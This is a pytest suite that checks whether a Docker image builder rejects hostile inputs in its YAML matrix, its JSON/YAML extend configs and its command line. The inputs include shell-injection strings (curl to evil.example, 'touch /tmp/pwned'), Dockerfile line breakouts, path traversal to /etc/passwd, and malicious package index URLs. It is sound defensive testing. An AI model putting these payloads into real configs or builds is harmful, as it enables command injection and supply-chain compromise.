"""Hostile but realistic input: every case exits 2 with exactly one plain line, no traceback, writes
nothing, and no injected text reaches a rendered file. Across matrix.yaml, compat.yaml, extend
configs and the command line (the grammars are in builder/matrix/grammar.py)."""

from __future__ import annotations

import copy
import hashlib
import json
import os
from pathlib import Path

import pytest
from repo import ROOT, seed_locks
from typer.testing import CliRunner
from yaml_dump import dump as _dump_yaml

from builder.cli import app
from builder.matrix import inputs

INJECT = "touch /tmp/pwned"


def _dump(data) -> str:
    return _dump_yaml(data)


def _set(path):
    def change(value):
        def apply(data):
            data = copy.deepcopy(data)
            cur = data
            for k in path[:-1]:
                cur = cur[k]
            cur[path[-1]] = value
            return _dump(data)
        return apply
    return change


def _rename_key(path, new):
    def apply(data):
        data = copy.deepcopy(data)
        cur = data
        for k in path[:-1]:
            cur = cur[k]
        cur[new] = cur.pop(path[-1])
        return _dump(data)
    return apply


SKV = ("frameworks", "sklearn", "versions", 0)
RUNTIME = ("runtime",)

# name: (mutation of the small matrix -> YAML text or bytes, words the one line must hold)
MATRIX = {
    "companion name is a command": (_set(SKV + ("companions",))({"$(curl http://evil.example/x)": "1.0"}),
                                    "is not a Python distribution name"),
    "apt item with a shell command": (_set(RUNTIME + ("apt",))(["python3", f"tini; {INJECT}"]), "is not a Debian package"),
    "source breaks out of LABEL": (_set(("project", "source"))(f'x"\nUSER 0\nRUN {INJECT}'), "one line of printable text"),
    "framework title with a newline": (_set(("frameworks", "sklearn", "title"))(f"sk\nRUN {INJECT}"), "one line"),
    "base key walks out of images/": (_rename_key(("bases", "debian12"), "/../../../tmp/x"), "lower-case name"),
    "base key in upper case": (_rename_key(("bases", "debian12"), "Debian12"), "lower-case name"),
    "duplicate key turns the user into root": (lambda d: _dump(d).replace("  uid: 1000\n", "  uid: 1000\n  uid: 0\n"),
                                               "duplicate key 'uid'"),
    "version as a YAML number": (lambda d: _dump(d).replace("numpy: 2.4.6", "numpy: 2.10"), "quote the version"),
    "uv version as an integer": (_set(("build_tools", "uv"))(1), "YAML number"),
    "alias bomb": (lambda d: _dump(d) + "bomb: &a [x, x, x, x, x, x, x, x]\nbomb2: &b [*a, *a, *a, *a, *a, *a]\n",
                   "aliases (*name) are not allowed"),
    "not UTF-8": (lambda d: _dump(d).encode().replace(b"Minimal", b"Minim\xe9l"), "not UTF-8"),
    "NUL byte": (lambda d: _dump(d).replace("Minimal", "Mini\x00mal"), "control character"),
    "tag template with an index": (_set(("tags", "immutable"))("{image_id[foo]}"), "is not a plain field"),
    "tag template with a conversion": (_set(("tags", "immutable"))("{image_id!r}"), "is not a plain field"),
    "tag template with a format spec": (_set(("tags", "immutable"))("{image_id:>99}"), "is not a plain field"),
    "tag template with a space": (_set(("tags", "immutable"))("v {image_id}"), "tag characters"),
    "label prefix breaks out": (_set(("project", "label_prefix"))('org.x" USER=0 a="'), "reverse-DNS"),
    "user name with a command": (_set(RUNTIME + ("user",))(f"root; {INJECT}"), "is not a user name"),
    "uid 0 (root)": (_set(RUNTIME + ("uid",))(0), "greater than or equal to 1"),
    "negative uid": (_set(RUNTIME + ("uid",))(-1), "greater than or equal to 1"),
    "uid past 2^31": (_set(RUNTIME + ("uid",))(2**31), "less than or equal to 2147483647"),
    "uid as a string": (_set(RUNTIME + ("uid",))("1000"), "valid integer"),
    "port 0": (_set(RUNTIME + ("port",))(0), "greater than or equal to 1"),
    "port past 65535": (_set(RUNTIME + ("port",))(70000), "less than or equal to 65535"),
    "relative venv": (_set(RUNTIME + ("venv",))("opt/venv"), "an absolute path"),
    "venv with a space": (_set(RUNTIME + ("venv",))("/opt/my venv"), "an absolute path"),
    "app root with ..": (_set(RUNTIME + ("app_root",))("/var/../etc"), "must not contain '..'"),
    "model dir with a command": (_set(RUNTIME + ("model_dir",))(f"/m;{INJECT}"), "an absolute path"),
    "entry script walks up": (_set(RUNTIME + ("entry_script",))("../../etc/passwd"), "must not contain '..'"),
    "entry script absolute": (_set(RUNTIME + ("entry_script",))("/etc/passwd"), "a relative path"),
    "pull reference with a command": (_set(("bases", "debian12", "pull"))(f"debian:bookworm; {INJECT}"), "reference grammar"),
    "pull reference in upper case": (_set(("bases", "debian12", "pull"))("Debian:12"), "reference grammar"),
    "bootstrap suite with a command": (_set(("bases", "debian12", "bootstrap", "suite"))(f"bookworm && {INJECT}"), "lower-case name"),
    "bootstrap variant unknown": (_set(("bases", "debian12", "bootstrap", "variant"))("--include=evil"), "is not allowed"),
    "runtime package name with a marker": (_set(RUNTIME + ("packages",))({"foo==1; evil": "1.0"}), "Python distribution name"),
    "runtime package version with a command": (_set(RUNTIME + ("packages",))({"azureml-inference-server-http": f"1.0; {INJECT}"}),
                                               "not a valid version"),
    "companion version with a command": (_set(SKV + ("companions",))({"numpy": "2.4.6 && curl x"}), "not a valid version"),
    "base list entry walks up": (_set(SKV + ("bases",))(["../x"]), "lower-case name"),
    "parent walks up": (_set(("frameworks", "sklearn", "parent"))("../minimal"), "lower-case name"),
    "moving tag with a command": (_set(("tags", "moving"))(["latest;rm"]), "is not a tag"),
    "title too long": (_set(("frameworks", "sklearn", "title"))("x" * 300), "1 to 200 characters"),
    "file over the size limit": (lambda d: _dump(d) + "#" * (inputs.MAX_BYTES + 10) + "\n", "larger than"),
    "CUDA image with a command": (_set(("frameworks", "xgboost"))({"title": "X", "parent": "minimal", "versions": [
        {"version": "3.2.0", "bases": ["debian12"], "devices": ["gpu"],
         "cuda": {"source": "image", "version": "12.8", "image": f"nvidia/cuda:12 && {INJECT}"}}]}), "reference grammar"),
}

COMPAT = {
    "package with a command": (lambda t: t.replace("{requirement: scikit-learn}", "{requirement: 'scikit-learn && curl x'}"),
                               "PEP 508"),
    "package with a version": (lambda t: t.replace("{requirement: scikit-learn}", "{requirement: 'scikit-learn>=1'}"),
                               "the name and extras only"),
    "local version with a command": (lambda t: t.replace("{requirement: xgboost-cpu}",
                                                         "{requirement: xgboost-cpu, local_version: 'cpu; x'}"),
                                     "local version label"),
    "python as a YAML number": (lambda t: t.replace("python: ['3.11', '3.12', '3.13']", "python: [3.11, '3.12']"),
                                "YAML number"),
    "duplicate key": (lambda t: t.replace("  sklearn:\n    cpu: {requirement: scikit-learn}\n",
                                          "  sklearn:\n    cpu: {requirement: scikit-learn}\n    cpu: {requirement: evil}\n"),
                      "duplicate key 'cpu'"),
    "nvidia wheel name with a command": (lambda t: t.replace("nvidia-nccl-cu12: 2.32.3", "'nvidia;evil': 2.32.3"),
                                         "Python distribution name"),
}


def _snapshot(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _one_line(result) -> str:
    assert "Traceback" not in result.output, result.output
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1, result.output
    return lines[0]


@pytest.fixture
def workspace(tmp_path, small_matrix_data):
    (tmp_path / "compat.yaml").write_text((ROOT / "tests" / "fixtures" / "compat.yaml").read_text())
    (tmp_path / "m.yaml").write_text(_dump(small_matrix_data))
    return tmp_path


def _render(ws: Path):
    return CliRunner().invoke(app, ["render", "--matrix", str(ws / "m.yaml"), "--templates", str(ROOT / "templates"),
                                    "--images", str(ws / "images")])


def _nothing_written(ws: Path, before: dict) -> None:
    assert _snapshot(ws) == before
    assert not (ws / "images").exists() and not (ws / "docker-bake.json").exists()


def test_there_are_at_least_sixty_cases():
    assert len(MATRIX) + len(COMPAT) + len(EXTEND) + len(CLI) >= 60


@pytest.mark.parametrize("case", list(MATRIX))
def test_hostile_matrix(case, workspace, small_matrix_data):
    make, words = MATRIX[case]
    text = make(small_matrix_data)
    path = workspace / "m.yaml"
    path.write_bytes(text) if isinstance(text, bytes) else path.write_text(text)
    before = _snapshot(workspace)
    result = _render(workspace)
    assert result.exit_code == 2, result.output
    line = _one_line(result)
    assert line.startswith("m.yaml: ") and words in line and len(line) < 400, line
    _nothing_written(workspace, before)


@pytest.mark.parametrize("case", list(COMPAT))
def test_hostile_compat_table(case, workspace):
    make, words = COMPAT[case]
    path = workspace / "compat.yaml"
    text = path.read_text()
    assert make(text) != text, "the mutation did not apply"
    path.write_text(make(text))
    before = _snapshot(workspace)
    result = _render(workspace)
    assert result.exit_code == 2, result.output
    line = _one_line(result)
    assert line.startswith("compat.yaml: ") and words in line, line
    _nothing_written(workspace, before)


def test_free_text_reaches_the_dockerfile_only_quoted(workspace, small_matrix_data):
    data = copy.deepcopy(small_matrix_data)
    data["project"]["vendor"] = 'evil" $(id) \\ `id`'
    (workspace / "m.yaml").write_text(_dump(data))
    seed_locks(workspace / "images")
    result = _render(workspace)
    assert result.exit_code == 0, result.output
    dockerfile = (workspace / "images" / "minimal-debian12-py311-cpu-inference" / "Dockerfile").read_text()
    assert 'org.opencontainers.image.vendor="evil\\" \\$(id) \\\\ `id`"' in dockerfile


# --- extend ----------------------------------------------------------------------------------------

def _config(ws: Path, **changes) -> Path:
    src = ws / "app" / "src"
    src.mkdir(parents=True, exist_ok=True)
    (src / "score.py").write_text("def init():\n    pass\n\n\ndef run(raw):\n    return raw\n")
    (ws / "outside.py").write_text("SECRET = 1\n")
    cfg = {"entryScript": "score.py", "sourceDirectory": "src", "baseImage": "sklearn-1.9-debian12-py311-cpu-inference",
           **changes}
    path = ws / "app" / "inference-config.json"
    path.write_text(json.dumps(cfg))
    return path


def _symlinked(ws: Path) -> dict:
    os.symlink("/etc/passwd", ws / "app" / "src" / "passwd")
    return {}


def _two_models(ws: Path) -> dict:
    for d in ("a", "b"):
        (ws / "app" / d).mkdir(parents=True, exist_ok=True)
        (ws / "app" / d / "model.pkl").write_bytes(b"m")
    return {"model": ["a/model.pkl", "b/model.pkl"]}


def _conda_outside(ws: Path) -> dict:
    (ws / "env.yml").write_text("dependencies:\n  - pip:\n      - tabulate==0.9.0\n")
    return {"condaFile": "../env.yml"}


def _conda_url(ws: Path) -> dict:
    (ws / "app" / "env.yml").write_text("dependencies:\n  - pip:\n      - git+https://evil.example/x.git\n")
    return {"condaFile": "env.yml"}


# name: (config changes, or a function of the workspace that prepares files and returns them; words)
EXTEND = {
    "absolute entry script": ({"entryScript": "/etc/passwd", "sourceDirectory": None}, "outside the config's folder"),
    "entry script walks up": ({"entryScript": "../outside.py", "sourceDirectory": None}, "outside the config's folder"),
    "symlink out of the source folder": (_symlinked, "is a link to /etc/passwd"),
    "absolute model": ({"model": ["/etc/passwd"]}, "outside the config's folder"),
    "model walks up": ({"model": ["../outside.py"]}, "outside the config's folder"),
    "extra steps outside": ({"extraDockerfileSteps": "/etc/passwd"}, "outside the config's folder"),
    "conda file outside": (_conda_outside, "outside the config's folder"),
    "two models with one name": (_two_models, "two model files would both be model.pkl"),
    "literal password": ({"baseImageRegistry": {"address": "reg.example:5000", "username": "u", "password": "hunter2"}},
                         "use ${ENV_VAR}"),
    "requirement is a pip option": ({"requirements": ["--index-url http://evil.example/simple"]}, "PEP 508"),
    "requirement is a command": ({"requirements": [f"$({INJECT})"]}, "PEP 508"),
    "requirement is a URL": ({"requirements": ["x @ https://evil.example/x.whl"]}, "direct URL"),
    "conda pip item is a URL": (_conda_url, "no URLs"),
    "apt item with a command": ({"apt": [f"curl; {INJECT}"]}, "Debian package"),
    "env key with a space": ({"env": {"A B": "1"}}, "environment variable name"),
    "env value with a newline": ({"env": {"A": f"1\nRUN {INJECT}"}}, "one line of text"),
    "base image with a command": ({"baseImage": f"x; {INJECT}"}, "reference grammar"),
    "registry address with a space": ({"baseImageRegistry": "evil host"}, "host[:port]"),
    "duplicate key": (lambda ws: "DUPLICATE", "duplicate key"),
}


@pytest.mark.parametrize("case", list(EXTEND))
def test_hostile_extend_config(case, tmp_path):
    change, words = EXTEND[case]
    cfg = _config(tmp_path)
    extra = change(tmp_path) if callable(change) else change
    if extra == "DUPLICATE":
        cfg.write_text('{"entryScript": "score.py", "sourceDirectory": "src", "entryScript": "/etc/passwd", '
                       '"baseImage": "sklearn-1.9-debian12-py311-cpu-inference"}')
    else:
        cfg = _config(tmp_path, **{k: v for k, v in extra.items()})
        if any(v is None for v in extra.values()):
            data = json.loads(cfg.read_text())
            cfg.write_text(json.dumps({k: v for k, v in data.items() if v is not None}))
    out = tmp_path / "out"
    before = _snapshot(tmp_path)
    result = CliRunner().invoke(app, ["extend", str(cfg), "--out", str(out), "--matrix", str(ROOT / "matrix.yaml")])
    assert result.exit_code == 2, result.output
    line = _one_line(result)
    assert words in line, line
    assert "hunter2" not in result.output
    assert not out.exists() and _snapshot(tmp_path) == before


def test_allow_outside_names_another_root(tmp_path):
    cfg = _config(tmp_path, entryScript="../outside.py", sourceDirectory=None)
    data = {k: v for k, v in json.loads(cfg.read_text()).items() if v is not None}
    cfg.write_text(json.dumps(data))
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["extend", str(cfg), "--out", str(out), "--allow-outside", str(tmp_path),
                                      "--matrix", str(ROOT / "matrix.yaml")])
    assert result.exit_code == 0, result.output
    assert (out / "app" / "outside.py").read_text() == "SECRET = 1\n"


def test_a_config_inside_its_source_folder_is_not_copied_into_the_image(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "score.py").write_text("def init():\n    pass\n")
    cfg = src / "inference-config.json"
    cfg.write_text(json.dumps({"entryScript": "score.py", "sourceDirectory": ".",
                               "baseImage": "sklearn-1.9-debian12-py311-cpu-inference"}))
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["extend", str(cfg), "--out", str(out), "--matrix", str(ROOT / "matrix.yaml")])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (out / "app").iterdir()) == ["score.py"]


# --- command line ----------------------------------------------------------------------------------

def _user_folder(ws: Path) -> list[str]:
    folder = ws / "mine"
    folder.mkdir()
    (folder / "notes.txt").write_text("my notes\n")
    seed_locks(folder, ROOT / "images")
    return ["render", "--matrix", str(ROOT / "matrix.yaml"), "--images", str(folder)]


def _foreign_bake_file(ws: Path) -> list[str]:
    (ws / "docker-bake.json").write_text("{}\n")
    seed_locks(ws / "images", ROOT / "images")
    return ["render", "--matrix", str(ROOT / "matrix.yaml"), "--images", str(ws / "images")]


def _out_is_the_config_folder(ws: Path) -> list[str]:
    cfg = _config(ws)
    return ["extend", str(cfg), "--out", str(cfg.parent), "--matrix", str(ROOT / "matrix.yaml")]


def _out_is_a_users_folder(ws: Path) -> list[str]:
    cfg = _config(ws)
    (ws / "mine").mkdir()
    (ws / "mine" / "notes.txt").write_text("my notes\n")
    return ["extend", str(cfg), "--out", str(ws / "mine"), "--matrix", str(ROOT / "matrix.yaml")]


def _missing_template(ws: Path) -> list[str]:
    return ["extend", str(_config(ws)), "--out", str(ws / "out"), "--template", str(ws / "missing.j2"),
            "--matrix", str(ROOT / "matrix.yaml")]


def _yaml_config_with_alias(ws: Path) -> list[str]:
    _config(ws)
    (ws / "app" / "extend.yml").write_text("entryScript: &e score.py\nsourceDirectory: src\nmodel: [*e]\n"
                                           "baseImage: sklearn-1.9-debian12-py311-cpu-inference\n")
    return ["extend", str(ws / "app" / "extend.yml"), "--out", str(ws / "out"), "--matrix", str(ROOT / "matrix.yaml")]


def _latin1_config(ws: Path) -> list[str]:
    _config(ws)
    (ws / "app" / "extend.yml").write_bytes(b"entryScript: sc\xf6re.py\nbaseImage: x\n")
    return ["extend", str(ws / "app" / "extend.yml"), "--out", str(ws / "out"), "--matrix", str(ROOT / "matrix.yaml")]


def _yaml_error_with_a_password(ws: Path) -> list[str]:
    _config(ws)
    (ws / "app" / "extend.yml").write_text("entryScript: score.py\nbaseImageRegistry: {address: r, password: hunter2: x}\n")
    return ["extend", str(ws / "app" / "extend.yml"), "--out", str(ws / "out"), "--matrix", str(ROOT / "matrix.yaml")]


CLI = {
    "render into a user's folder": (_user_folder, "did not write"),
    "render over a bake file that is not ours": (_foreign_bake_file, "was not written by `builder render`"),
    "extend --out at the config's folder": (_out_is_the_config_folder, "the config's folder or one above it"),
    "extend --out at a user's folder": (_out_is_a_users_folder, "was not written by `builder extend`"),
    "extend --template that does not exist": (_missing_template, "missing.j2 not found"),
    "extend YAML with an alias": (_yaml_config_with_alias, "aliases"),
    "extend config not UTF-8": (_latin1_config, "not UTF-8"),
    "YAML error next to a password": (_yaml_error_with_a_password, "malformed YAML"),
    "registry with a space": (lambda ws: ["build", "--registry", "evil host", "--matrix", str(ROOT / "matrix.yaml")],
                              "--registry"),
    "selection that matches nothing": (lambda ws: ["build", "--select", "nothing*", "--matrix", str(ROOT / "matrix.yaml")],
                                       "matches no image"),
    "unknown image": (lambda ws: ["dockerfile", "no-such-image", "--matrix", str(ROOT / "matrix.yaml")], "no image"),
    "matrix that does not exist": (lambda ws: ["list", "--matrix", str(ws / "absent.yaml")], "cannot read"),
    "templates folder without templates": (lambda ws: ["render", "--matrix", str(ROOT / "matrix.yaml"), "--templates",
                                                       str(ws), "--images", str(ws / "images")], "holds no layers/"),
    "extend --tag that is not a reference": (lambda ws: ["extend", str(_config(ws)), "--tag", "Bad Tag", "--out",
                                                         str(ws / "out"), "--matrix", str(ROOT / "matrix.yaml")], "--tag"),
}


@pytest.mark.parametrize("case", list(CLI))
def test_hostile_command_line(case, tmp_path):
    make, words = CLI[case]
    args = make(tmp_path)
    before = _snapshot(tmp_path)
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 2, result.output
    line = _one_line(result)
    assert words in line, line
    assert "hunter2" not in result.output
    assert _snapshot(tmp_path) == before
    assert not (tmp_path / "out").exists()


def test_render_works_from_another_directory(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["render", "--check", "--matrix", str(ROOT / "matrix.yaml")])
    assert result.exit_code == 0, result.output
